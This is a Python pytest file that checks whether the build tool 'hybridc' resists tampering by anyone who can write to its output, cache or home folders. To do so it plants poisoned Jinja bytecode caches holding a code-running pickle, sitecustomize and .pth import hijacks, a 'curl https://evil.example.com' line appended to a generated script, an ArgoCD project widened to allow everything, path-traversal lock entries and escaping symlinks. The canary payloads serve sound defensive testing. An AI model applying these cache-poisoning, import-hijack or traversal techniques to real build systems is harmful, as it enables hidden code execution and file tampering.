"""Who may change anything below out/, .cache and ~ of a repository makes no build run, believe or write what he wants.

Each thing is planted in a repository of two clusters; then hybridc runs there as a CI job does.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import sys
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from jinja2.bccache import FileSystemBytecodeCache, bc_magic
from tests.build.cli import LOCK, ROOT, Done, call, clean_environment, run, tree, written

from hybridc.layout.lock import sha256

NAMES = ("one", "two")
Plant = Callable[[Path], object]


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Specs in clusters/, their output in out/; beside the repository lies what belongs to nobody here."""
    folder = tmp_path / "repository"
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "mine").write_text("mine\n")
    for number, name in enumerate(NAMES):
        destination = f"hybrid-out.git\n    destination: {{name: {name}}}"
        written(folder / "clusters", name, number, {"hybrid-out.git": destination})
    monkeypatch.chdir(folder)
    assert call(*words(folder, "build")).code == 0
    return folder


def words(folder: Path, *flags: str) -> list[str]:
    return [*flags, *sorted(map(str, folder.glob("clusters/*.yaml"))), "-o", "out"]


def process(folder: Path, *flags: str, before: tuple[str, ...] = (), home: Mapping[str, str] | None = None) -> Done:
    """A run as a process of its own, so that whatever Python would load by itself is loaded."""
    return run(*words(folder, *flags), cwd=folder, before=before, environment=clean_environment(**(home or {})))


class Evil:
    """What a pickle runs as it is loaded."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, ...]:
        return (os.mkdir, (str(self.canary),))


def canary(folder: Path) -> Path:
    """What planted code would make."""
    return folder.parent / "outside" / "ran"


def plant_caches(folder: Path) -> None:
    """Jinja's bytecode, as 0.1.0 kept it, wherever a cache could be looked for."""
    evil = bc_magic + pickle.dumps(Evil(canary(folder)))
    keys = FileSystemBytecodeCache(str(folder))
    templates = sorted((ROOT / "chart-templates").rglob("*.j2"))
    for cache in (".cache", "~/.cache", "out/.cache", "~/.config", "~/.local/share"):
        place = folder / cache / "hybridc" / "templates"
        place.mkdir(parents=True)
        for path in templates:
            name = str(path.relative_to(ROOT / "chart-templates"))
            for source in (None, name, str(path)):
                (place / f"__jinja2_{keys.get_cache_key(name, source)}.cache").write_bytes(evil)


def plant_modules(folder: Path) -> None:
    """Modules that Python, hybridc or a library would import, had one of these folders a place on the path."""
    code = f"import os; os.makedirs({str(canary(folder))!r}, exist_ok=True)\n"
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    places = ("out", "out/one", ".cache", "~", f"~/.local/lib/{version}/site-packages", "out/argocd")
    for place in places:
        (folder / place).mkdir(parents=True, exist_ok=True)
        for name in ("sitecustomize", "usercustomize", "hybridc", "yaml", "jinja2", "jsonschema_rs", "hybridc_plugin"):
            (folder / place / f"{name}.py").write_text(code)
        (folder / place / "evil.pth").write_text(code)


def forge(folder: Path, path: str, data: bytes) -> None:
    """Change a generated file and the lock with it, as carefully as one can."""
    lock = folder / LOCK
    content = json.loads(lock.read_bytes())
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_bytes(data)
    content["files"][path] = sha256(data)
    lock.write_text(json.dumps(content, indent=2) + "\n")


def plant_script(folder: Path) -> None:
    script = folder / "out/one/cloud/node/init-node-ecs.sh"
    forge(folder / "out/one", "cloud/node/init-node-ecs.sh", script.read_bytes() + b"curl https://evil.example.com\n")


def plant_more_rights(folder: Path) -> None:
    """The fleet's AppProject allows everything, and a file more lies there that the lock calls ours."""
    (project,) = (folder / "out/argocd").glob("appproject-*.yaml")
    text = project.read_text().replace("clusterResourceWhitelist: []", 'clusterResourceWhitelist: [{group: "*"}]')
    forge(folder / "out/argocd", project.name, text.encode() + b"# more\n")
    forge(folder / "out/argocd", "applicationset-evil.yaml", b"kind: ApplicationSet\n")


def plant_fleet(folder: Path) -> None:
    """What 0.1.0 believed of a lock: findings, claims, and names for the files of a fleet."""
    for name in NAMES:
        lock = folder / "out" / name / LOCK
        content = json.loads(lock.read_bytes())
        odd: dict[str, object] = {
            "project": "/../../../../outside/evil",
            "parameters": None,
            "shared": None,
            "allowed": {},
        }
        lock.write_text(
            json.dumps(content | {"lockVersion": 1, "fleet": odd, "claims": [], "sum": "0", "findings": []})
        )


def plant_paths(folder: Path) -> None:
    """A lock that calls files of others ours: they would be pruned."""
    lock = folder / "out/one" / LOCK
    content = json.loads(lock.read_bytes())
    for path in ("../../clusters/one.yaml", str(folder.parent / "outside/mine"), "../../../outside/mine", "a/../b"):
        found = Path(os.path.normpath(folder / "out/one" / path))
        content["files"][path] = sha256(found.read_bytes()) if found.is_file() else "0" * 64
    lock.write_text(json.dumps(content))


def plant_links(folder: Path) -> None:
    """Links in the place of files and folders that a build writes, to what lies elsewhere."""
    one, two = folder / "out/one", folder / "out/two"
    (one / "SUMMARY.md").unlink()
    (one / "SUMMARY.md").symlink_to(folder / "clusters/one.yaml")
    shutil.rmtree(one / "cloud")
    (one / "cloud").symlink_to(folder / "clusters")
    shutil.rmtree(two)
    two.symlink_to(folder.parent / "outside")


def plant_leftovers(folder: Path) -> None:
    """Names that are hybridc's own in an output folder."""
    for number, rest in enumerate(("new", "old", "gone", "gone-1", "next-1")):
        (folder / f"out/.two.hybridc-{rest}").symlink_to(folder.parent / "outside")
        (folder / f"out/.one.hybridc-{rest}").mkdir()
        (folder / f"out/.one.hybridc-{rest}/{number}").write_text("evil")
        (folder / f"out/...hybridc-{rest}").mkdir()
        (folder / f"out/....hybridc-{rest}").mkdir()
    shutil.rmtree(folder / "out/one")


RUN = (plant_caches, plant_modules)
BELIEVED = (plant_script, plant_more_rights, plant_fleet)
FOLLOWED = (plant_paths, plant_links, plant_leftovers)
HOMES: dict[str, dict[str, str]] = {
    "unset": {},
    "empty": {"HOME": "", "XDG_CACHE_HOME": ""},
    "the repository": {"HOME": ".", "XDG_CACHE_HOME": ".cache", "XDG_CONFIG_HOME": ".cache"},
}
CHECK, BUILD, FORCE = ("build", "--check"), ("build",), ("build", "--force")


def elsewhere(folder: Path) -> dict[str, bytes]:
    """Everything but the output."""
    return {path: data for path, data in tree(folder.parent).items() if not path.startswith("repository/out")}


def generated(folder: Path, whole: Mapping[str, bytes]) -> dict[str, bytes]:
    return {path: data for path, data in tree(folder / "out").items() if path in whole}


@pytest.mark.parametrize("home", HOMES.values(), ids=HOMES.keys())
@pytest.mark.parametrize("plant", RUN)
def test_nothing_is_run(repository: Path, plant: Plant, home: dict[str, str]) -> None:
    plant(repository)
    before, whole = elsewhere(repository), tree(repository / "out")
    for flags in (CHECK, FORCE):
        done = process(repository, *flags, home=home)
        assert (done.code, elsewhere(repository), tree(repository / "out")) == (0, before, whole), done.err
    assert not canary(repository).exists()


UNKNOWN = """
mount --bind {empty} /etc/passwd; mount --bind {files} /etc/nsswitch.conf
[ "$("$1" -c 'import os; print(os.path.expanduser("~"))')" = "~" ]; exec "$@"
"""


@pytest.mark.needs("root")
@pytest.mark.parametrize("plant", RUN)
def test_nothing_is_run_for_a_user_without_a_name(repository: Path, plant: Plant, tmp_path: Path) -> None:
    """As in a container: no HOME, and no entry in passwd that says where it is; ~ is then a folder like any other."""
    plant(repository)
    (tmp_path / "empty").touch()
    (tmp_path / "files").write_text("passwd: files\n")
    script = UNKNOWN.format(empty=tmp_path / "empty", files=tmp_path / "files")
    before = elsewhere(repository)
    for flags in (CHECK, FORCE):
        done = process(repository, *flags, before=("unshare", "--mount", "sh", "-euc", script, "sh"))
        assert (done.code, elsewhere(repository)) == (0, before), done.err


@pytest.mark.parametrize("plant", BELIEVED)
@pytest.mark.parametrize("flags", [BUILD, FORCE])
def test_nothing_is_believed(repository: Path, plant: Plant, flags: tuple[str, ...]) -> None:
    """A plain build mends it: the lock says that the files are ours, and that is all it is believed for."""
    whole = tree(repository / "out")
    plant(repository)
    before = elsewhere(repository)
    assert call(*words(repository, *CHECK)).code == 1
    assert call(*words(repository, *flags)).code == 0
    assert (elsewhere(repository), tree(repository / "out")) == (before, whole)


@pytest.mark.parametrize("plant", FOLLOWED)
def test_nothing_is_followed(repository: Path, plant: Plant) -> None:
    """Neither read as ours, nor written through, nor removed."""
    whole = tree(repository / "out")
    plant(repository)
    before = elsewhere(repository)
    for flags, codes in ((CHECK, {1}), (BUILD, {0, 2}), (FORCE, {0}), (CHECK, {0})):
        done = call(*words(repository, *flags))
        assert (done.code in codes, elsewhere(repository) == before) == (True, True), done.err
    assert generated(repository, whole) == whole
